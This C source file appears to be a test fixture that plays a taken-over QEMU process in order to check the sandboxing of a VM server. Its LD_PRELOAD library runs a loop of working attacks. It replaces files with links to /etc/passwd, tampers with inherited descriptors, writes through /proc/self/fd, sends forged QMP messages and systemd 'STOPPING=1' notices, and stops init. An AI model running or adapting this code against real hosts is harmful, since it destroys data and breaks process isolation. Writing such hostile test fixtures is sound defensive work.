/* A QEMU that was taken over: what runs inside its process, with its user, namespaces, limits, descriptors and filters.
 *
 * hostile_vmm.py makes two programs of this file:
 *
 *     -DLIBRARY     a library that a thread of attacks runs in, from before main() on
 *     -DWRAPPER     the program that the server takes for QEMU: it holds the real one and the library, and becomes the
 *                   real one with the library loaded; asked for a version or the like, it is the real one only
 *
 * The thread goes round and round. In each round it tries everything once: on each path that it sees, on each
 * descriptor, on each socket. When a round is over its number is the access time of the VM's disks, FAR + number, so a
 * test can wait for one. It spares only what its own guest needs to go on, unless the guest has two MiB of memory more
 * than a multiple of four: then it also answers for QEMU with malformed data, and floods.
 */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_tun.h>
#include <linux/vm_sockets.h>
#include <net/if.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#ifdef LIBRARY

#define FAR 4102444800LL /* the year 2100: nothing but us sets such an access time, and the kernel leaves it */
#define MOST_FDS 256
#define MAX_PATHS 2000
#define GROWTH (8 << 20)
#define LARGEST (1LL << 50)
#define VICTIM "/etc/passwd"

static int spoil;
static char text[4096];
static char paths[MAX_PATHS][256];
static int path_count;

static void collect(const char *directory, int depth)
{
    DIR *list = depth < 12 ? opendir(directory) : NULL;
    if (list == NULL)
        return;
    for (struct dirent *entry; path_count < MAX_PATHS && (entry = readdir(list)) != NULL;) {
        if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0)
            continue;
        const char *slash = strcmp(directory, "/") == 0 ? "" : directory;
        char *path = paths[path_count];
        if (snprintf(path, sizeof *paths, "%s/%s", slash, entry->d_name) >= (int)sizeof *paths)
            continue;
        path_count++;
        if (entry->d_type == DT_DIR && strcmp(path, "/proc") != 0)
            collect(path, depth + 1);
    }
    closedir(list);
}

/* The name is taken away, and something else put in its place. */
static void replace(const char *path)
{
    char other[300];
    snprintf(other, sizeof other, "%s.new", path);
    (void)!rename(path, other);
    (void)!unlink(path);
    (void)!rmdir(path);
    (void)!symlink(VICTIM, path);
    (void)!link(VICTIM, path);
    (void)!mkfifo(path, 0666);
    (void)!mkdir(path, 0777);
    (void)!chmod(path, 06777);
    (void)!chown(path, getuid(), getgid());
    int fd = open(path, O_RDWR | O_CREAT | O_NONBLOCK | O_CLOEXEC, 0666);
    if (fd >= 0) {
        struct stat found;
        if (fstat(fd, &found) == 0 && S_ISREG(found.st_mode)) {
            (void)!ftruncate(fd, LARGEST);
            (void)!pwrite(fd, text, sizeof text, 0);
        }
        close(fd);
    }
}

static void attack_file(int fd, const struct stat *found, int round)
{
    char link_name[64];
    int flags = fcntl(fd, F_GETFL), writable = (flags & O_ACCMODE) != O_RDONLY;
    if ((flags & O_ACCMODE) == O_WRONLY && !(flags & O_APPEND) && !spoil)
        return;                    /* its VM is being saved to it */
    (void)!ftruncate(fd, LARGEST); /* beyond its limit: refused, without a signal */
    if (writable && round < 4)
        (void)!ftruncate(fd, found->st_size + GROWTH);
    if (writable && !(flags & O_APPEND))
        (void)!pwrite(fd, text, sizeof text, found->st_size - (round < 4 ? 0 : (off_t)sizeof text));
    (void)!fallocate(fd, FALLOC_FL_KEEP_SIZE, found->st_size, 1 << 20);
    (void)!fchmod(fd, round % 2 ? 06777 : 0);
    (void)!fchown(fd, 0, 0);
    (void)!fchown(fd, getuid() + 1, getgid() + 1);
    (void)!flock(fd, LOCK_EX | LOCK_NB);
    (void)!fcntl(fd, F_SETLEASE, spoil ? F_RDLCK : F_UNLCK); /* the server then cannot copy what it wants to copy */
    (void)!linkat(fd, "", AT_FDCWD, "/linked", AT_EMPTY_PATH);
    snprintf(link_name, sizeof link_name, "/proc/self/fd/%d", fd);
    (void)!linkat(AT_FDCWD, link_name, AT_FDCWD, "/linked", AT_SYMLINK_FOLLOW);
    if (!writable) { /* lent for reading only */
        int again = open(link_name, O_RDWR | O_NONBLOCK | O_CLOEXEC);
        if (again >= 0) {
            (void)!pwrite(again, text, sizeof text, 0);
            close(again);
        }
        (void)!truncate(link_name, 0);
    }
    struct timespec times[2] = {{FAR + round, 0}, {0, UTIME_OMIT}};
    (void)!futimens(fd, times);
}

static void attack_directory(int fd)
{
    static const char *const up[] = {"..", "../..", "../../..", "../../../etc/passwd", "/etc/passwd"};
    for (size_t i = 0; i < sizeof up / sizeof *up; i++) {
        int there = openat(fd, up[i], O_RDWR | O_CLOEXEC | O_NONBLOCK);
        if (there >= 0)
            close(there);
    }
    (void)!mkfifoat(fd, "hypeman.log", 0666);
    (void)!symlinkat(VICTIM, fd, "app.log");
    (void)!unlinkat(fd, "overlay.raw", 0);
}

static void attack_tap(int fd, int round)
{
    struct ifreq wanted = {.ifr_flags = IFF_TAP | IFF_NO_PI};
    unsigned char frame[60] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 2, 0, 0, 0, 0, 1, 8, 0, 0x45};
    snprintf(wanted.ifr_name, sizeof wanted.ifr_name, "hm%d", round % 100);
    (void)!ioctl(fd, TUNSETIFF, &wanted);
    (void)!ioctl(fd, TUNSETOWNER, (unsigned long)getuid() + 1);
    (void)!ioctl(fd, TUNSETDEBUG, 1);
    for (int i = 0; i < (spoil ? 200 : 2); i++)
        (void)!write(fd, frame, sizeof frame);
}

/* What the server sends here is for QEMU, and what QEMU would answer is for the server. */
static void attack_socket(int fd, int round)
{
    char some[256];
    struct sockaddr_un name;
    socklen_t length = sizeof name;
    (void)!getpeername(fd, (struct sockaddr *)&name, &length);
    if (recv(fd, some, sizeof some, MSG_PEEK | MSG_DONTWAIT) < 0 && errno == EINVAL && spoil && round > 400) {
        (void)!fcntl(fd, F_SETFL, O_NONBLOCK);
        int connection = accept4(fd, NULL, NULL, SOCK_CLOEXEC | SOCK_NONBLOCK); /* it listens */
        if (connection >= 0) {
            (void)!send(connection, text, sizeof text, MSG_DONTWAIT | MSG_NOSIGNAL);
            close(connection);
        }
    }
    if (spoil && round > 400 && round % 3 == 0)
        (void)!send(fd, text, sizeof text, MSG_DONTWAIT | MSG_NOSIGNAL);
}

static void attack_sockets(void)
{
    static const char *const names[] = {
        "\0hypeman-network",
        "\0hypeman",
        "/run/systemd/notify",
        "/run/systemd/private",
        "/run/dbus/system_bus_socket",
        "/run/hypeman/hypeman.sock",
        "/run/hypeman.sock",
        "/proc/1/root/run/hypeman/hypeman.sock",
        "/dev/log",
    };
    for (size_t i = 0; i < sizeof names / sizeof *names; i++)
        for (int kind = SOCK_STREAM; kind <= SOCK_DGRAM; kind++) {
            struct sockaddr_un to = {.sun_family = AF_UNIX};
            size_t length = *names[i] ? strlen(names[i]) : 1 + strlen(names[i] + 1);
            int fd = socket(AF_UNIX, kind | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
            memcpy(to.sun_path, names[i], length);
            if (connect(fd, (struct sockaddr *)&to, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + length)) == 0)
                (void)!send(fd, "STOPPING=1", 10, MSG_NOSIGNAL);
            close(fd);
        }
    struct sockaddr_in local = {.sin_family = AF_INET, .sin_port = htons(22), .sin_addr = {htonl(INADDR_LOOPBACK)}};
    struct sockaddr_vm host = {.svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST, .svm_port = 1024};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    (void)!connect(fd, (struct sockaddr *)&local, sizeof local);
    close(fd);
    fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    (void)!connect(fd, (struct sockaddr *)&host, sizeof host);
    close(fd);
    for (int pid = 1; pid < 4; pid++)
        if (pid != getpid())
            (void)!kill(pid, SIGSTOP);
}

/* Another memory of the guest's name and size before the real one; and for a moment something else in its place. */
static void switch_descriptors(int memory, int decoy, off_t size, int round)
{
    static const int seals = F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_SEAL;
    if (round % 64 == 1) {
        int fake = memfd_create("hypeman-guest", MFD_ALLOW_SEALING | MFD_CLOEXEC);
        (void)!ftruncate(fake, size);
        (void)!fcntl(fake, F_ADD_SEALS, seals);
        (void)!dup2(fake, decoy);
        close(fake);
    }
    if (round % 16 == 0) {
        int kept = fcntl(memory, F_DUPFD_CLOEXEC, 200);
        int other = open("/dev/urandom", O_PATH | O_CLOEXEC);
        (void)!dup2(other, memory);
        (void)!dup2(kept, memory);
        close(other);
        close(kept);
    }
}

static void *attack(void *unused)
{
    collect("/", 0);
    memset(text, 'x', sizeof text);
    memcpy(text, "\x1b]0;owned\a\r\n{\"event\": \"SHUTDOWN\"}\n{\"return\": {}, \"id\": 1}\n[[[[[[[[", 60);
    for (int round = 0;; round++) {
        for (int i = 0; i < path_count; i++)
            replace(paths[i]);
        replace("/new");
        replace("/tmp/new");
        replace("/dev/shm/new");
        for (int fd = 3; fd < MOST_FDS; fd++) {
            char path[64], target[128];
            struct stat found;
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            ssize_t length = readlink(path, target, sizeof target - 1);
            if (length < 0 || fstat(fd, &found) != 0)
                continue;
            target[length] = 0;
            if (strncmp(target, "/memfd:hypeman-guest", 20) == 0) {
                if (fd < 150)
                    switch_descriptors(fd, 199, found.st_size, round);
            } else if (S_ISREG(found.st_mode) && strncmp(target, "/memfd:", 7) != 0)
                attack_file(fd, &found, round);
            else if (S_ISDIR(found.st_mode))
                attack_directory(fd);
            else if (S_ISSOCK(found.st_mode))
                attack_socket(fd, round);
            else if (strcmp(target, "/dev/net/tun") == 0)
                attack_tap(fd, round);
        }
        attack_sockets();
        for (int i = 0; i < (spoil ? 64 : 1) && round % 8 == 0; i++)
            (void)!write(2, text, sizeof text);
        usleep(3000);
    }
    return unused;
}

__attribute__((constructor)) static void begin(void)
{
    pthread_t thread;
    sigset_t all, before;
    char line[65536] = "";
    int fd = open("/proc/self/cmdline", O_RDONLY | O_CLOEXEC);
    ssize_t length = read(fd, line, sizeof line - 1);
    close(fd);
    for (ssize_t i = 0; i + 3 < length; i++)
        if (memcmp(line + i, "\0-m", 4) == 0)
            spoil = atoi(line + i + 4) % 4 == 2;
    unsetenv("LD_PRELOAD");
    sigfillset(&all);
    pthread_sigmask(SIG_BLOCK, &all, &before); /* QEMU's signals are for QEMU */
    pthread_create(&thread, NULL, attack, NULL);
    pthread_sigmask(SIG_SETMASK, &before, NULL);
}

#else

__asm__(".section .rodata\n"
        ".balign 16\n.globl qemu_begin, qemu_end, library_begin, library_end\n"
        "qemu_begin: .incbin \"" QEMU "\"\nqemu_end:\n"
        "library_begin: .incbin \"" HOSTILE "\"\nlibrary_end:\n"
        ".byte 0\n.text\n");
extern const char qemu_begin[], qemu_end[], library_begin[], library_end[];

/* A descriptor for reading only, since what is open for writing cannot be executed. */
static int file_of(const char *begin, const char *end, const char *name)
{
    char path[64];
    int fd = memfd_create(name, 0);
    while (begin < end) {
        ssize_t written = write(fd, begin, (size_t)(end - begin));
        if (written <= 0)
            _exit(125);
        begin += written;
    }
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int again = open(path, O_RDONLY);
    close(fd);
    return again;
}

int main(int argc, char **argv)
{
    char preload[64];
    char *more[argc + 5];
    int vm = 0;
    for (int i = 0; i < argc; i++) {
        vm |= strcmp(argv[i], "-sandbox") == 0;
        more[i] = argv[i];
    }
    if (!vm) {
        execv(QEMU, argv);
        return 127;
    }
    char *const last[] = {"-L", "/usr/share/qemu", "-L", "/usr/share/seabios", NULL};
    memcpy(more + argc, last, sizeof last);
    int library = file_of(library_begin, library_end, "library");
    int qemu = file_of(qemu_begin, qemu_end, "qemu");
    snprintf(preload, sizeof preload, "/proc/self/fd/%d", library);
    setenv("LD_PRELOAD", preload, 1);
    setenv("QEMU_MODULE_DIR", MODULES, 1);
    fexecve(qemu, more, environ);
    perror("the real QEMU");
    return 126;
}

#endif
